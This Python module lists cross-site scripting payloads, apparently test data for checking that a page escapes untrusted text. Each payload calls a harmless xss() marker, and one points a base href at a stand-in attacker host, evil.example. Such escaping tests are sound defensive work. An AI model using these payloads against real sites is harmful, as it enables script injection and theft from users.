"""Texts that a page which parses them would run.

Every one of them calls `xss()`; a page that shows them as they are never does.
"""

from __future__ import annotations

XSS_VECTORS = (
    "<script>xss()</script>",
    "</script><script>xss()</script>",
    '"><script>xss()</script>',
    "'><script>xss()</script>",
    "<ScRiPt>xss()</sCrIpT>",
    '<script src="data:text/javascript,xss()"></script>',
    "<img src=x onerror=xss()>",
    '"><img src=x onerror=xss()>',
    "<img/src=x/onerror=xss()>",
    "<svg onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=xss()>",
    '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
    "<iframe src=javascript:parent.xss()></iframe>",
    '<object data="javascript:xss()"></object>',
    '<embed src="javascript:xss()">',
    '<a href="javascript:xss()" id=clobber>press me</a>',
    "javascript:xss()",
    "<body onload=xss()>",
    "<details open ontoggle=xss()>",
    "<input autofocus onfocus=xss()>",
    "<video><source onerror=xss()></video>",
    "<audio src=x onerror=xss()>",
    '<meta http-equiv="refresh" content="0;url=javascript:xss()">',
    '<base href="https://evil.example/"><script src=x.js></script>',
    '<form action="javascript:xss()"><button>press me</button></form>',
    "<template><img src=x onerror=xss()></template>",
    '<noscript><p title="</noscript><img src=x onerror=xss()>">',
    "<style>@import 'javascript:xss()';</style>",
    "{{constructor.constructor('xss()')()}}${xss()}#{xss()}",
    "&lt;img src=x onerror=xss()&gt; &#60;script&#62;xss()&#60;/script&#62;",
)
